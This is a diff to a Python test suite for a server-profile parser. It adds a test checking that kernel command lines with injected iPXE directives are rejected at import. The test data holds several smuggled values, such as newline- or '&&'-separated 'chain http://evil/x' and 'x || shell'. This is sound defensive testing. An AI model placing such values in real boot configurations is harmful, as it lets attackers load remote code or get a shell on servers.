@@ -186,7 +186,7 @@ def _profile(draw: st.DrawFn) -> dict[str, object]:
     ]
     source = draw(st.sampled_from(sources))
     if source["type"] == "image" and draw(st.booleans()):
-        source = source | {"cmdline": draw(_text)}
+        source = source | {"cmdline": draw(_text.filter(lambda t: not any(b in t for b in ("$", "#", "&&", "||"))))}
     spec: dict[str, object] = {
         "identity": {"nics": nics, "uuid": draw(st.one_of(st.uuids().map(str), st.just("pool:uuids")))},
         "boot": {"mode": draw(st.sampled_from(["uefi", "legacy"])), "source": source},
@@ -211,3 +211,16 @@ def test_generated_profiles_round_trip(data: dict[str, object]) -> None:
     assert parse_xml(to_xml(p)) == p
     assert parse_yaml(to_yaml(p)) == p
     assert from_dict(to_dict(p)) == p
+
+
+@pytest.mark.parametrize(("cmdline", "why"), [
+    ("quiet\nchain http://evil/x", "U+000A"), ("console=ttyS0\r", "U+000D"), ("a\tb", "U+0009"),
+    ("root=${root-path}", '"$"'), ("quiet # chain http://evil/x", '"#"'), ("x && chain http://e/x", '"&&"'),
+    ("x || shell", '"||"'),
+])
+def test_a_kernel_cmdline_iPXE_would_act_on_is_refused_at_import(cmdline: str, why: str) -> None:
+    doc = {"apiVersion": "anvil/v1", "kind": "ServerProfile", "metadata": {"name": "p", "tenant": "t"},
+           "spec": {"boot": {"source": {"type": "image", "kernel": "k", "initrd": "i", "cmdline": cmdline}}}}
+    with pytest.raises(ValidationError) as err:
+        from_dict(doc)
+    assert err.value.issues[0].path == "spec.boot.source.cmdline" and why in err.value.issues[0].reason
